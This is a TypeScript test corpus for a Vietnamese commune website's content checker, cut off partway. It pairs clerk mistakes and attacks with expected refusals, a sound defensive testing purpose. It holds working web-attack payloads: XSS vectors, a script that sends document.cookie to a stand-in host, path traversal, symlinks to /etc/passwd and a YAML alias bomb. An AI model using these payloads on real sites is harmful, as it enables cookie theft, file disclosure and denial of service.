/**
 * The bad-input corpus (issue 13): mistakes clerks make and attacks by
 * whoever holds a clerk's login, each a small fault on a copy of a valid
 * fixture commune with the outcome it must have. `check` must give that
 * outcome for every case (tests/unit/corpus-check.test.ts); the build must
 * agree and publish nothing harmful (tests/build/corpus.test.ts).
 *
 * Cases that add a file name it after their id, so any number of them can
 * be applied to one copy at once without touching each other.
 */
import { DOCUMENT, type Edit, INDEX_RESULT, NEWS, PROCEDURE, windows1258 } from '../support/broken-commune.ts';
import { bmp, COVER_JPEG, pdf, png, TRUNCATED_JPEG } from './bytes.ts';
import { FROM_COLLECTION, OUTSIDE, SECRET_JPEG, SECRET_PDF, SECRET_TEXT } from './outside.ts';

type Kind = 'attack' | 'mistake' | 'honest';
export const AREAS = ['markdown', 'url-field', 'file-reference', 'media-folder', 'yaml', 'encoding', 'schema', 'honest-text', 'performance'] as const;
type Area = (typeof AREAS)[number];

interface Expectation {
  /**
   * refused: check reports an error, every error in `file`, and the build stops.
   * harmless: check accepts (warnings allowed) and the built page holds nothing harmful.
   * accepted: check accepts without a word about `file`, and the build publishes it.
   */
  outcome: 'refused' | 'harmless' | 'accepted';
  /** The file the finding names, relative to the content folder (public files: to the project). */
  file: string;
  /** The field an error names; absent where the fault is the file itself (its bytes, its name, its YAML). */
  field?: string;
  /** Words the Vietnamese report of the case must carry. */
  says?: string[];
  /**
   * Other files a refusal also reports, as a consequence: an entry the schema
   * refuses is left out of the cross-checks, so what refers to it is reported too.
   */
  cascades?: string[];
}

export interface CorpusCase {
  id: string;
  kind: Kind;
  area: Area;
  description: string;
  edits: Edit[];
  /** Files under the project's public/ folder (the CMS uploads to public/tai-lieu/). */
  publicFiles?: Extract<Edit, { write: unknown }>[];
  expect: Expectation;
}

// ---------------------------------------------------------------- helpers

export const articleFile = (id: string) => `news/corpus-${id}.md`;

/** A new, valid news article named after the case, with `body` and extra front matter. */
function article(id: string, body: string, front = '', date = '2024-01-22'): { file: string; write: string } {
  return {
    file: articleFile(id),
    write: `---\ntitle: Bài kiểm thử ${id}\ndate: "${date}"\nsummary: Một bài của bộ kiểm thử nội dung.\ntopics:\n  - cai-cach-thu-tuc-hanh-chinh\n${front}---\n\n${body}\n`,
  };
}

/** Replaces `from` with `to` in `file`; the corpus fails loudly if `from` is not there. */
const replace = (file: string, from: string | RegExp, to: string): Edit => ({ file, edit: (t) => t.replace(from, to) });
/** Adds `lines` to the front matter of `file`, right after its first line matching `after`. */
const insertAfter = (file: string, after: RegExp, lines: string): Edit => ({ file, edit: (t) => t.replace(after, (line) => `${line}\n${lines}`) });

const BODY = 'nội dung bài';
const NO_SCRIPT = 'không có mã có thể chạy';

/** A Markdown body that must be refused, with what the report shows as found. */
function markdownAttack(id: string, description: string, body: string, found: string[] = []): CorpusCase {
  return {
    id,
    kind: 'attack',
    area: 'markdown',
    description,
    edits: [article(id, body)],
    expect: { outcome: 'refused', file: articleFile(id), field: BODY, says: [...found] },
  };
}

/** Honest prose that must pass check without a word and be published. */
function honest(id: string, description: string, body: string): CorpusCase {
  return { id, kind: 'honest', area: 'honest-text', description, edits: [article(id, body)], expect: { outcome: 'accepted', file: articleFile(id) } };
}

/** A url field holding `value`: refused, naming the field. */
function urlAttack(id: string, description: string, file: string, field: string, edit: Edit, says: string[]): CorpusCase {
  return { id, kind: 'attack', area: 'url-field', description, edits: [edit], expect: { outcome: 'refused', file, field, says } };
}

/** A new article whose cover is the file `image` (written, or a link), refused at cover.src. */
function coverCase(
  id: string,
  kind: Kind,
  description: string,
  image: { write: Uint8Array | string } | { linkTo: string } | { src: string },
  says: string[],
): CorpusCase {
  const src = 'src' in image ? image.src : `./corpus/${id}.jpg`;
  const edits: Edit[] = [article(id, 'Bài có ảnh bìa.', `cover:\n  src: "${src}"\n  alt: Ảnh bìa của bài kiểm thử\n`)];
  if (!('src' in image)) edits.push({ file: `news/corpus/${id}.jpg`, ...image });
  return { id, kind, area: 'file-reference', description, edits, expect: { outcome: 'refused', file: articleFile(id), field: 'cover.src', says } };
}

/** A new document whose attachment is `file:` `written`, with `extra` edits (the file itself). */
function documentCase(id: string, kind: Kind, description: string, written: string, extra: Edit[], says: string[]): CorpusCase {
  const doc = `documents/corpus-${id}.md`;
  const text = `---\nnumber: ${id}/KH-UBND\nkind: Kế hoạch\nissuer: Ủy ban nhân dân xã\ndate: 2024-01-10\ntitle: Văn bản kiểm thử ${id}\nsummary: Văn bản của bộ kiểm thử nội dung.\nfile: "${written}"\n---\n`;
  return { id, kind, area: 'file-reference', description, edits: [{ file: doc, write: text }, ...extra], expect: { outcome: 'refused', file: doc, field: 'file', says } };
}

const UPLOADS = 'public/tai-lieu';

// ---------------------------------------------------------------- the corpus

const markdown: CorpusCase[] = [
  markdownAttack('script', 'a <script> element', '<script>alert(1)</script>', ['<script>', NO_SCRIPT]),
  markdownAttack('script-split', 'a script tag split over lines', '<script\n>alert(1)</script\n>', ['<script>']),
  markdownAttack('script-case', 'a script tag in mixed case', '<ScRiPt>alert(1)</sCrIpT>', ['<script>']),
  markdownAttack('script-in-paragraph', 'a script inside a sentence', 'Xem thêm <script>fetch("//x.example/"+document.cookie)</script> tại đây.', ['<script>']),
  markdownAttack('onerror-next-line', 'onerror= on the line after <img', '<img src="./a.png"\nonerror=alert(1)>', ['onerror']),
  markdownAttack('onmouseover-unquoted', 'an unquoted handler on a div', '<div onmouseover=alert(1)>rê chuột</div>', ['onmouseover']),
  markdownAttack('ontoggle-details', 'a handler on an open <details>', '<details open ontoggle=alert(1)><summary>x</summary></details>', ['ontoggle']),
  markdownAttack('autolink-javascript', 'an autolink to javascript:', '<javascript:alert(1)>', ['javascript:']),
  markdownAttack('link-javascript', 'a Markdown link to javascript:', '[bấm vào đây](javascript:alert(1))', ['javascript:']),
  markdownAttack('reference-javascript', 'a reference link to javascript:', '[bấm][x]\n\n[x]: javascript:alert(1) "Tiêu đề"', ['javascript:']),
  markdownAttack('entity-scheme', 'an entity-encoded javascript: scheme', '<a href="&#106;avascript:alert(1)">x</a>'),
  markdownAttack('entity-colon', 'javascript&colon; spelled with an entity', '<a href="javascript&colon;alert(1)">x</a>'),
  markdownAttack('tab-in-scheme', 'a tab entity inside the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
  markdownAttack('vbscript-link', 'a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', ['vbscript:']),
  markdownAttack('data-html-link', 'a Markdown link to data:text/html', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', ['data:']),
  markdownAttack('data-html-a', 'an <a> to data:text/html', '<a href="data:text/html,<script>alert(1)</script>">x</a>', ['data:']),
  markdownAttack('protocol-relative-link', 'a protocol-relative link', '<a href="//evil.example/">x</a>'),
  markdownAttack('backslash-link', 'a link starting /\\ (another host to a browser)', '<a href="/\\evil.example/">x</a>'),
  markdownAttack(
    'svg-animate',
    'an <svg><animate> setting href to javascript:',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
    ['<svg>'],
  ),
  markdownAttack('svg-script', 'a script inside <svg>', '<svg><script>alert(1)</script></svg>'),
  markdownAttack('math-confusion', 'a MathML parsing confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
  markdownAttack('iframe', 'an <iframe> from another host', '<iframe src="https://video.example/abc"></iframe>', ['<iframe>']),
  markdownAttack('iframe-srcdoc', 'an <iframe srcdoc> holding a script', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ['<iframe>']),
  markdownAttack('object', 'an <object>', '<object data="x.swf"></object>', ['<object>']),
  markdownAttack('embed', 'an <embed>', '<embed src="https://other.example/x.swf">', ['<embed>']),
  markdownAttack('form', 'a form posting to another host', '<form action="https://other.example/"><input name="cccd"><button>Gửi</button></form>', ['<form>']),
  markdownAttack('formaction', 'a button with formaction', '<button formaction="https://other.example/">x</button>'),
  markdownAttack('base', 'a <base> element', '<base href="https://other.example/">', ['<base>']),
  markdownAttack('meta-refresh', 'a <meta http-equiv="refresh"> to another site', '<meta http-equiv="refresh" content="0;url=https://other.example/">', ['<meta>']),
  markdownAttack('style-element', 'a <style> hiding the page', '<style>body{display:none}</style>', ['<style>']),
  markdownAttack('style-attribute', 'a style attribute covering the page', '<p style="position:fixed;inset:0;background:#fff">x</p>', ['style']),
  markdownAttack('link-stylesheet', 'a stylesheet from another host', '<link rel="stylesheet" href="https://other.example/x.css">', ['<link>']),
  markdownAttack('remote-image', 'a Markdown image from another host', '![x](https://other.example/pixel.gif)', ['ảnh tải từ nơi khác']),
  markdownAttack('remote-pixel', 'a 1 × 1 tracking pixel in HTML', '<img src="https://other.example/p.gif?u=1" width="1" height="1" alt="">', ['ảnh tải từ nơi khác']),
  markdownAttack('protocol-relative-image', 'a protocol-relative image', '<img src="//other.example/pixel.gif" alt="">'),
  markdownAttack('data-image', 'a data: SVG image with a handler', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">'),
  markdownAttack('srcset', 'an srcset from another host', '<img src="./a.png" srcset="https://other.example/p.gif 1x" alt="">'),
  markdownAttack('unclosed-across-blocks', 'a tag opened in one block, the handler in the next', '<div>\n\n<span onclick="alert(1)">x</span>\n\n', ['onclick']),
  markdownAttack('noscript-differential', 'a <noscript> parsing differential', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  markdownAttack('template', 'a <template> hiding a handler', '<template><img src=x onerror=alert(1)></template>'),
  markdownAttack('id-clobbering', 'an id taking the name of a part of the page', '<a id="main" name="search">x</a>'),
  markdownAttack('video-audio', 'video and audio from another host', '<video src="https://other.example/v.mp4"></video>', ['<video>']),
  markdownAttack('deep-nesting', '300 nested tags', `${'<span>'.repeat(300)}x`, ['HTML lồng']),
  {
    // Without its closing ">" this is no tag to Markdown: it is published as the text it is.
    id: 'unclosed-at-end',
    kind: 'attack',
    area: 'markdown',
    description: 'a tag left open at the end of the file',
    edits: [article('unclosed-at-end', 'Đoạn cuối <img src=x onerror=alert(1)//')],
    expect: { outcome: 'harmless', file: articleFile('unclosed-at-end') },
  },
  {
    id: 'legacy-html-tags',
    kind: 'attack',
    area: 'markdown',
    description: 'old presentational tags (<font>, <center>, <marquee>): dropped, the words kept',
    edits: [article('legacy-html-tags', '<font color="red">Chú ý</font> <center>giữa trang</center> <marquee>chạy chữ</marquee>')],
    expect: { outcome: 'harmless', file: articleFile('legacy-html-tags') },
  },
];

const URL_SAYS = (scheme: string) => [`địa chỉ dạng "${scheme}:" không được nhận`];
const siteUrl = (field: string, from: string | RegExp, to: string, scheme: string, id: string, description: string) =>
  urlAttack(id, description, 'site.yaml', field, replace('site.yaml', from, to), URL_SAYS(scheme));

const urlFields: CorpusCase[] = [
  siteUrl('url', 'url: https://chauthanh-2024.example.org', 'url: "javascript:alert(1)"', 'javascript', 'site-url-javascript', 'the site address is javascript:'),
  siteUrl(
    'hotlines.0.url',
    '    phone: 0275 3 600 002',
    '    phone: 0275 3 600 002\n    url: "data:text/html,<script>alert(1)</script>"',
    'data',
    'hotline-url-data',
    'a hotline url is data:text/html',
  ),
  siteUrl('feedback.url', '  url: https://dichvucong.gov.vn\n', '  url: "vbscript:msgbox(1)"\n', 'vbscript', 'feedback-url-vbscript', 'the feedback url is vbscript:'),
  siteUrl(
    'social.facebook',
    'facebook: https://www.facebook.com/example',
    'facebook: "javascript:alert(document.domain)"',
    'javascript',
    'social-javascript',
    'a social link is javascript:',
  ),
  siteUrl('social.zalo', 'social:\n', 'social:\n  zalo: "file:///etc/passwd"\n', 'file', 'social-file', 'a social link is file:'),
  siteUrl(
    'portals.national',
    'national: https://dichvucong.gov.vn',
    'national: "JaVaScRiPt:alert(1)"',
    'javascript',
    'portal-national-mixed-case',
    'the national portal is JaVaScRiPt:',
  ),
  siteUrl(
    'portals.provincial.url',
    'url: https://dichvucong.bentre.gov.vn',
    'url: "data:text/html;base64,PHNjcmlwdD4="',
    'data',
    'portal-provincial-data',
    'the provincial portal is data:',
  ),
  {
    id: 'page-feedback-javascript',
    kind: 'attack',
    area: 'url-field',
    description: 'the page-feedback form is javascript:',
    edits: [replace('site.yaml', 'url: https://gopy.example.org/?trang={url}', 'url: "javascript:alert({url})"')],
    expect: { outcome: 'refused', file: 'site.yaml', field: 'pageFeedback.url' },
  },
  siteUrl(
    'cms.authUrl',
    /^url: https/m,
    'cms:\n  backend: github\n  repo: xa/cong\n  authUrl: "javascript:alert(1)"\nurl: https',
    'javascript',
    'cms-auth-javascript',
    'the CMS sign-in address is javascript:',
  ),
  urlAttack(
    'procedure-portal-data',
    'a procedure’s portal link is data:text/html',
    PROCEDURE,
    'portalUrl',
    insertAfter(PROCEDURE, /^code: .*$/m, 'portalUrl: "data:text/html,<script>alert(1)</script>"'),
    URL_SAYS('data'),
  ),
  urlAttack(
    'procedure-form-vbscript',
    'a form link in a procedure’s documents is vbscript:',
    PROCEDURE,
    'cases.0.documents.0.formUrl',
    insertAfter(PROCEDURE, /^ {8}originals: 1$/m, '        formUrl: "vbscript:msgbox(1)"'),
    URL_SAYS('vbscript'),
  ),
  urlAttack(
    'procedure-basis-javascript',
    'a legal basis link is javascript:',
    PROCEDURE,
    'legalBasis.0.url',
    insertAfter(PROCEDURE, /^ {2}- number: 23\/2015\/NĐ-CP$/m, '    url: "javascript:alert(1)"'),
    URL_SAYS('javascript'),
  ),
  urlAttack(
    'document-url-javascript',
    'a document’s link is javascript:',
    DOCUMENT,
    'url',
    insertAfter(DOCUMENT, /^kind: .*$/m, 'url: "javascript:alert(1)"'),
    URL_SAYS('javascript'),
  ),
  urlAttack(
    'index-source-file',
    'an index result’s source is file:',
    INDEX_RESULT,
    'source.url',
    insertAfter(INDEX_RESULT, /^ {2}title: .*$/m, '  url: "file:///etc/passwd"'),
    URL_SAYS('file'),
  ),
  urlAttack(
    'index-source-protocol-relative',
    'an index result’s source without a scheme (//host)',
    'indices/par-index-xa-2021.md',
    'source.url',
    insertAfter('indices/par-index-xa-2021.md', /^ {2}title: .*$/m, '  url: "//other.example/"'),
    ['https://'],
  ),
];

const files: CorpusCase[] = [
  documentCase('file-dotdot', 'attack', 'a document’s file: ../ out of the content folder', `${FROM_COLLECTION}/${SECRET_PDF}`, [], ['đi ra ngoài thư mục nội dung']),
  documentCase('file-absolute', 'attack', 'a document’s file: an absolute path', `${OUTSIDE}/${SECRET_PDF}`, [], []),
  documentCase(
    'file-symlink-out',
    'attack',
    'a document’s PDF is a symbolic link out of the folder',
    './tep/corpus-link.pdf',
    [{ file: 'documents/tep/corpus-link.pdf', linkTo: `${OUTSIDE}/${SECRET_PDF}` }],
    ['liên kết (symlink)'],
  ),
  documentCase(
    'file-symlink-passwd',
    'attack',
    'a document’s PDF is a symbolic link to /etc/passwd',
    './tep/corpus-passwd.pdf',
    [{ file: 'documents/tep/corpus-passwd.pdf', linkTo: '/etc/passwd' }],
    ['liên kết (symlink)'],
  ),
  documentCase('file-missing', 'mistake', 'a document’s PDF is not there', './tep/khong-co.pdf', [], ['không tìm thấy tệp']),
  documentCase(
    'file-pdf-is-html',
    'attack',
    'a “PDF” that is an HTML page with a script',
    './tep/corpus-html.pdf',
    [{ file: 'documents/tep/corpus-html.pdf', write: '<!doctype html><script>alert(document.cookie)</script>' }],
    [],
  ),
  documentCase('file-pdf-empty', 'mistake', 'a 0-byte PDF', './tep/corpus-empty.pdf', [{ file: 'documents/tep/corpus-empty.pdf', write: '' }], ['0 byte']),
  documentCase('file-folder', 'mistake', 'a document’s file names a folder', './tep/', [], []),
  coverCase('cover-dotdot', 'attack', 'a cover ../ out of the content folder', { src: `${FROM_COLLECTION}/${SECRET_JPEG}` }, ['đi ra ngoài thư mục nội dung']),
  coverCase('cover-absolute', 'attack', 'a cover at an absolute path', { src: `${OUTSIDE}/${SECRET_JPEG}` }, []),
  coverCase('cover-symlink-out', 'attack', 'a cover that is a symbolic link out of the folder', { linkTo: `${OUTSIDE}/${SECRET_JPEG}` }, ['liên kết (symlink)']),
  coverCase('cover-symlink-passwd', 'attack', 'a cover that is a symbolic link to /etc/passwd', { linkTo: '/etc/passwd' }, ['liên kết (symlink)']),
  coverCase('cover-missing', 'mistake', 'a cover that is not there', { src: './corpus/khong-co.jpg' }, ['không tìm thấy tệp ảnh']),
  coverCase('cover-empty', 'mistake', 'a 0-byte cover', { write: '' }, ['tệp này rỗng (0 byte)']),
  coverCase('cover-bmp', 'mistake', 'a BMP saved as .jpg', { write: bmp() }, ['ảnh BMP']),
  coverCase('cover-svg', 'attack', 'an SVG with a script as the cover', { write: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' }, [
    'hình vẽ SVG',
  ]),
  coverCase('cover-truncated', 'mistake', 'a JPEG cut short by an upload', { write: TRUNCATED_JPEG }, []),
  coverCase('cover-huge', 'attack', 'a PNG declaring 30000 × 30000 pixels', { write: png(30_000, 30_000, 1) }, []),
  coverCase('cover-html', 'attack', 'an HTML page saved as .jpg', { write: '<html><body onload="alert(1)">x</body></html>' }, []),
  {
    id: 'body-image-outside',
    kind: 'attack',
    area: 'file-reference',
    description: 'an image in a body ../ out of the content folder',
    edits: [article('body-image-outside', `![Ảnh](${FROM_COLLECTION}/${SECRET_JPEG})`)],
    expect: { outcome: 'refused', file: articleFile('body-image-outside'), field: BODY },
  },
  {
    id: 'body-link-outside',
    kind: 'attack',
    area: 'file-reference',
    description: 'a link in a body to a PDF out of the content folder',
    edits: [article('body-link-outside', `[Tải kế hoạch](${FROM_COLLECTION}/${SECRET_PDF})`)],
    expect: { outcome: 'refused', file: articleFile('body-link-outside'), field: BODY },
  },
  {
    // The build publishes images beside a page, never other files: the link would lead nowhere.
    id: 'relative-file-link',
    kind: 'mistake',
    area: 'file-reference',
    description: 'a link to a PDF form beside the article',
    edits: [article('relative-file-link', 'Tải [mẫu đơn](./corpus/mau-don.pdf) rồi điền.'), { file: 'news/corpus/mau-don.pdf', write: pdf('Mau don') }],
    expect: { outcome: 'refused', file: articleFile('relative-file-link'), field: BODY, says: ['/tai-lieu/ten-tep.pdf'] },
  },
  {
    id: 'uploaded-file-link',
    kind: 'honest',
    area: 'file-reference',
    description: 'a link to a PDF form the CMS uploaded to public/tai-lieu/',
    edits: [article('uploaded-file-link', 'Tải [mẫu đơn](/tai-lieu/mau-don-corpus.pdf) rồi điền.')],
    publicFiles: [{ file: 'tai-lieu/mau-don-corpus.pdf', write: pdf('Mau don') }],
    expect: { outcome: 'accepted', file: articleFile('uploaded-file-link') },
  },
  {
    id: 'entry-symlink-out',
    kind: 'attack',
    area: 'file-reference',
    description: 'a news “article” that is a symbolic link to a file outside',
    edits: [{ file: 'news/corpus-entry-symlink-out.md', linkTo: `${OUTSIDE}/${SECRET_TEXT}` }],
    expect: { outcome: 'refused', file: 'news/corpus-entry-symlink-out.md', says: ['liên kết (symlink)'] },
  },
  {
    id: 'photo-symlink-in',
    kind: 'honest',
    area: 'file-reference',
    description: 'a cover that is a symbolic link to another photo inside the folder',
    edits: [
      article('photo-symlink-in', 'Bài có ảnh bìa là liên kết tới ảnh trong thư mục.', 'cover:\n  src: ./corpus/photo-symlink-in.jpg\n  alt: Ảnh bìa\n'),
      { file: 'news/corpus/photo-symlink-in.jpg', linkTo: '../images/nop-ho-so-truc-tuyen.jpg' },
    ],
    expect: { outcome: 'accepted', file: articleFile('photo-symlink-in') },
  },
  {
    id: 'png-named-jpg',
    kind: 'honest',
    area: 'file-reference',
    description: 'a real PNG saved with a .jpg name',
    edits: [
      article('png-named-jpg', 'Ảnh PNG mang tên .jpg.', 'cover:\n  src: ./corpus/png-named-jpg.jpg\n  alt: Ảnh bìa\n'),
      { file: 'news/corpus/png-named-jpg.jpg', write: png(64, 48) },
    ],
    expect: { outcome: 'accepted', file: articleFile('png-named-jpg') },
  },
];

const upload = (id: string, kind: Kind, description: string, name: string, bytes: string | Uint8Array, says: string[] = []): CorpusCase => ({
  id,
  kind,
  area: 'media-folder',
  description,
  edits: [],
  publicFiles: [{ file: `tai-lieu/${name}`, write: bytes }],
  expect: { outcome: 'refused', file: `${UPLOADS}/${name}`, says },
});

const mediaFolder: CorpusCase[] = [
  upload('upload-html', 'attack', 'an HTML page with a script in the upload folder', 'trang.html', '<!doctype html><script>fetch("/admin/")</script>'),
  upload(
    'upload-svg-script',
    'attack',
    'an SVG with a script in the upload folder',
    'logo.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
  ),
  upload('upload-html-as-pdf', 'attack', 'an HTML page named .pdf in the upload folder', 'bieu-mau.pdf', '<html><script>alert(1)</script></html>'),
  upload('upload-svg-as-png', 'attack', 'an SVG named .png in the upload folder', 'anh.png', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  upload('upload-script', 'attack', 'a JavaScript file in the upload folder', 'tien-ich.js', 'alert(document.cookie)'),
  upload('upload-empty', 'mistake', 'a 0-byte upload', 'rong.pdf', ''),
  {
    id: 'upload-pdf',
    kind: 'honest',
    area: 'media-folder',
    description: 'a real PDF and a real photo in the upload folder',
    edits: [],
    publicFiles: [
      { file: 'tai-lieu/mau-don.pdf', write: pdf('Mau don') },
      { file: 'tai-lieu/anh.jpg', write: COVER_JPEG },
    ],
    expect: { outcome: 'accepted', file: `${UPLOADS}/mau-don.pdf` },
  },
];

const yamlCase = (id: string, kind: Kind, description: string, edit: Edit, says: string[], file = NEWS): CorpusCase => ({
  id,
  kind,
  area: 'yaml',
  description,
  edits: [edit],
  expect: { outcome: 'refused', file, says: ['sai cú pháp YAML', ...says] },
});

const yaml: CorpusCase[] = [
  yamlCase('duplicate-key', 'mistake', 'a field written twice', replace(NEWS, /^(date: .*)$/m, '$1\ndate: "2024-01-23"'), ['tên trường bị ghi hai lần']),
  yamlCase('tab-indent', 'mistake', 'a line indented with a tab', replace(NEWS, '  - cai-cach-thu-tuc-hanh-chinh', '\t- cai-cach-thu-tuc-hanh-chinh'), []),
  yamlCase('unclosed-quote', 'mistake', 'a quote never closed', replace(NEWS, 'date: "2024-01-22"', 'date: "2024-01-22'), []),
  yamlCase('unclosed-bracket', 'mistake', 'a [ never closed', replace(NEWS, /^title: (.*)$/m, 'title: [$1'), []),
  yamlCase('missing-colon', 'mistake', 'a field name without its colon', replace(NEWS, /^author: /m, 'author '), []),
  yamlCase('bad-indent', 'mistake', 'fields of a group not in line', replace(PROCEDURE, '  inPerson: true\n', '   inPerson: true\n'), [], PROCEDURE),
  yamlCase(
    'alias-bomb',
    'attack',
    'a “billion laughs” alias bomb',
    insertAfter(
      NEWS,
      /^author: .*$/m,
      [
        'x0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
        ...Array.from({ length: 9 }, (_, i) => `x${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(',')}]`),
      ].join('\n'),
    ),
    ['tham chiếu & và * quá nhiều'],
  ),
  yamlCase('site-yaml-syntax', 'mistake', 'site.yaml with a quote never closed', replace('site.yaml', 'kind: xã', 'kind: "xã'), [], 'site.yaml'),
  yamlCase(
    'site-yaml-duplicate',
    'mistake',
    'site.yaml with a field twice',
    replace('site.yaml', 'kind: xã', 'kind: xã\nname: Xã khác'),
    ['tên trường bị ghi hai lần'],
    'site.yaml',
  ),
  {
    id: 'no-front-matter',
    kind: 'mistake',
    area: 'yaml',
    description: 'an article without the --- lines',
    edits: [{ file: articleFile('no-front-matter'), write: 'title: Bài không có phần đầu\n\nNội dung.\n' }],
    expect: { outcome: 'refused', file: articleFile('no-front-matter'), says: ['hai dòng ---'] },
  },
  {
    id: 'front-matter-unclosed',
    kind: 'mistake',
    area: 'yaml',
    description: 'front matter whose closing --- is missing',
    edits: [{ file: articleFile('front-matter-unclosed'), write: '---\ntitle: Bài thiếu dòng đóng\ndate: "2024-01-22"\n\nNội dung.\n' }],
    expect: { outcome: 'refused', file: articleFile('front-matter-unclosed'), says: ['hai dòng ---'] },
  },
  {
    id: 'yaml-list-not-object',
    kind: 'mistake',
    area: 'yaml',
    description: 'front matter that is a list',
    edits: [{ file: articleFile('yaml-list-not-object'), write: '---\n- title\n- date\n---\n\nNội dung.\n' }],
    expect: { outcome: 'refused', file: articleFile('yaml-list-not-object') },
  },
];

const BOM = '\uFEFF';
const encoding: CorpusCase[] = [
  {
    id: 'bom-article',
    kind: 'honest',
    area: 'encoding',
    description: 'a UTF-8 article with a byte-order mark',
    edits: [{ file: articleFile('bom-article'), write: BOM + article('bom-article', 'Bài lưu bằng Notepad, có BOM.').write }],
    expect: { outcome: 'accepted', file: articleFile('bom-article') },
  },
  {
    id: 'bom-site-yaml',
    kind: 'honest',
    area: 'encoding',
    description: 'site.yaml with a byte-order mark',
    edits: [{ file: 'site.yaml', edit: (t) => BOM + t }],
    expect: { outcome: 'accepted', file: 'site.yaml' },
  },
  {
    id: 'windows-1258-article',
    kind: 'mistake',
    area: 'encoding',
    description: 'an article saved in Windows-1258',
    edits: [{ file: NEWS, edit: windows1258 }],
    expect: { outcome: 'refused', file: NEWS, says: ['UTF-8', 'Windows-1258'] },
  },
  {
    id: 'windows-1258-site',
    kind: 'mistake',
    area: 'encoding',
    description: 'site.yaml saved in Windows-1258',
    edits: [{ file: 'site.yaml', edit: windows1258 }],
    expect: { outcome: 'refused', file: 'site.yaml', says: ['UTF-8', 'Windows-1258'] },
  },
  {
    id: 'invalid-utf8',
    kind: 'mistake',
    area: 'encoding',
    description: 'bytes that are no text encoding at all',
    edits: [{ file: PROCEDURE, edit: (t) => Buffer.concat([Buffer.from(t.slice(0, 200)), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x80]), Buffer.from(t.slice(200))]) }],
    expect: { outcome: 'refused', file: PROCEDURE, says: ['UTF-8'] },
  },
  {
    id: 'utf16-article',
    kind: 'mistake',
    area: 'encoding',
    description: 'an article saved as UTF-16',
    edits: [{ file: NEWS, edit: (t) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(t, 'utf16le')]) }],
    expect: { outcome: 'refused', file: NEWS, says: ['UTF-8', 'UTF-16'] },
  },
  {
    id: 'tcvn3-site-name',
    kind: 'mistake',
    area: 'encoding',
    description: 'TCVN3 text as the commune’s name in site.yaml',
    edits: [replace('site.yaml', 'name: Minh họa Châu Thành', 'name: Minh häa Ch©u Thµnh')],
    expect: { outcome: 'refused', file: 'site.yaml', field: 'name', says: ['lỗi phông'] },
  },
  {
    id: 'tcvn3-front-matter',
    kind: 'mistake',
    area: 'encoding',
    description: 'TCVN3 text in an article’s title',
    edits: [replace(NEWS, /^title: .*$/m, 'title: TriÓn khai KÕ ho¹ch th«ng tin, tuyªn truyÒn c¶i c¸ch hµnh chÝnh')],
    expect: { outcome: 'refused', file: NEWS, field: 'title', says: ['lỗi phông'] },
  },
  {
    id: 'tcvn3-body',
    kind: 'mistake',
    area: 'encoding',
    description: 'TCVN3 text pasted into a body',
    edits: [article('tcvn3-body', 'Uû ban nh©n d©n x· tæ chøc häp giao ban, qu¸n triÖt KÕ ho¹ch.')],
    expect: { outcome: 'refused', file: articleFile('tcvn3-body'), field: BODY, says: ['lỗi phông'] },
  },
  {
    id: 'toneless-title',
    kind: 'mistake',
    area: 'encoding',
    description: 'an article title typed without tone marks',
    edits: [replace(NEWS, /^title: .*$/m, 'title: Trien khai ke hoach tuyen truyen cai cach hanh chinh')],
    expect: { outcome: 'refused', file: NEWS, field: 'title', says: ['gõ không dấu', 'bộ gõ tiếng Việt'] },
  },
  {
    id: 'toneless-body',
    kind: 'mistake',
    area: 'encoding',
    description: 'a paragraph pasted without tone marks into a body',
    edits: [article('toneless-body', 'Uy ban nhan dan xa to chuc hop giao ban, quan triet ke hoach cai cach hanh chinh nam nay.')],
    expect: { outcome: 'refused', file: articleFile('toneless-body'), field: BODY, says: ['gõ không dấu'] },
  },
  {
    id: 'english-quote-and-acronyms',
    kind: 'honest',
    area: 'encoding',
    description: 'an English sentence, acronyms and a marked name beside a toneless one: not toneless Vietnamese',
    edits: [
      article(
        'english-quote-and-acronyms',
        'Chỉ số PAR INDEX, SIPAS, PAPI năm 2023.\n\nKhẩu hiệu của hội nghị: "Digital transformation for people and businesses in every commune".\n\nLiên hệ: ông Nguyen Van An, xã Bằng Cả.',
      ),
    ],
    expect: { outcome: 'accepted', file: articleFile('english-quote-and-acronyms') },
  },
  {
    id: 'decomposed-unicode',
    kind: 'honest',
    area: 'encoding',
    description: 'text pasted from a PDF in decomposed Unicode: a warning, published composed',
    edits: [article('decomposed-unicode', 'Thủ tục đăng ký khai sinh.'.normalize('NFD'))],
    expect: { outcome: 'harmless', file: articleFile('decomposed-unicode') },
  },
];

const schemaCase = (id: string, description: string, file: string, field: string, edit: Edit | Edit[], says: string[]): CorpusCase => ({
  id,
  kind: 'mistake',
  area: 'schema',
  description,
  edits: Array.isArray(edit) ? edit : [edit],
  expect: { outcome: 'refused', file, field, says },
});
const CAMPAIGN = 'commendations/bo-phan-mot-cua-xa.md';
const PLAN = 'plans/2024.md';
const EVENT = 'events/chuyen-muc-cchc-thang-1.md';

const schema: CorpusCase[] = [
  schemaCase('missing-title', 'an article without its title', NEWS, 'title', replace(NEWS, /^title: .*\n/m, ''), ['chưa có (bắt buộc)']),
  // A procedure known only from the province's list is published (issue 14): what it lacks is a warning naming the part.
  {
    id: 'missing-decision',
    kind: 'honest',
    area: 'schema',
    description: 'a procedure without its publishing decision (after an import): published, with a warning',
    edits: [{ file: PROCEDURE, edit: (t) => t.replace(/^decision:\n( {2}.*\n)+/m, '') }],
    expect: { outcome: 'harmless', file: PROCEDURE, says: ['chưa có: quyết định công bố'] },
  },
  {
    id: 'missing-channels',
    kind: 'honest',
    area: 'schema',
    description: 'a procedure without its channels: in person only, as at every service center',
